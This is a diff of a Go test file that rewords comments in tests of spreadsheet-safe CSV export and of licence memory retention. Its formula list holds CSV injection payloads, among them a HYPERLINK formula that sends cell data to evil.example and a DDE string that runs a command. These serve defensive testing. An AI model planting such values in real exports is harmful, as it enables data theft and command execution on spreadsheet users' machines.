@@ -15,11 +15,11 @@ import (
 	"kindex/edge/storage/storagetest"
 )
 
-// formulas are names that a spreadsheet takes for formulas.
+// formulas are names that a spreadsheet interprets as formulas.
 var formulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"PyTorch")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1"}
 
-// TestFormulasInCSV: in the file that is meant for a spreadsheet no text is a formula,
-// and programs get every text as it is.
+// TestFormulasInCSV: in CSV for spreadsheets no text is a formula, and programs get every
+// text unchanged.
 func TestFormulasInCSV(t *testing.T) {
 	suite.WithoutRace(t)
 	content, dir := t.TempDir(), t.TempDir()
@@ -37,7 +37,7 @@ func TestFormulasInCSV(t *testing.T) {
 	for _, path := range []string{"entities?format=csv", "entities?format=csv&type=tool", "entities?format=csv&fields=name", "leaderboard?format=csv", "changelog?format=csv", "changelog?format=csv&type=tool"} {
 		plain, safe := texts(t, h.ask(t, "GET", "/api/export/"+path)), texts(t, h.ask(t, "GET", "/api/export/"+path+"&csv=spreadsheet"))
 		if len(plain) != len(safe) {
-			t.Fatalf("%s: %d cells, %d for a spreadsheet", path, len(plain), len(safe))
+			t.Fatalf("%s: %d cells, %d in the spreadsheet form", path, len(plain), len(safe))
 		}
 		found := 0
 		for i, cell := range plain {
@@ -56,7 +56,7 @@ func TestFormulasInCSV(t *testing.T) {
 			t.Errorf("%s: only %d formulas", path, found)
 		}
 		if same := texts(t, h.ask(t, "GET", "/api/export/"+path+"&csv=plain")); !slices.Equal(same, plain) {
-			t.Errorf("%s: csv=plain is another file", path)
+			t.Errorf("%s: csv=plain is a different file", path)
 		}
 	}
 	for _, path := range []string{"entities?csv=plain", "entities?format=json&csv=spreadsheet", "leaderboard?format=parquet&csv=spreadsheet", "changelog?format=csv&csv=excel"} {
@@ -66,7 +66,7 @@ func TestFormulasInCSV(t *testing.T) {
 	}
 }
 
-// texts are the cells of an answer in CSV.
+// texts returns the cells of a CSV response.
 func texts(t *testing.T, a answer) []string {
 	t.Helper()
 	rows, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
@@ -76,7 +76,7 @@ func texts(t *testing.T, a answer) []string {
 	return slices.Concat(rows...)
 }
 
-// TestMemoryOfLicences: what strangers give as a licence is not kept.
+// TestMemoryOfLicences: licenses sent by strangers are not retained.
 func TestMemoryOfLicences(t *testing.T) {
 	suite.InTest(t)
 	suite.WithoutRace(t)
@@ -104,6 +104,6 @@ func TestMemoryOfLicences(t *testing.T) {
 	other := send(func(i int) string { return fmt.Sprint(long, i) })
 	t.Logf("%d licences: %d bytes more; %d where all are one", n, other, same)
 	if other-same > 100*n {
-		t.Errorf("%d different licences keep %d bytes of memory, one as often %d", n, other, same)
+		t.Errorf("%d different licences retain %d bytes, one repeated as often %d", n, other, same)
 	}
 }
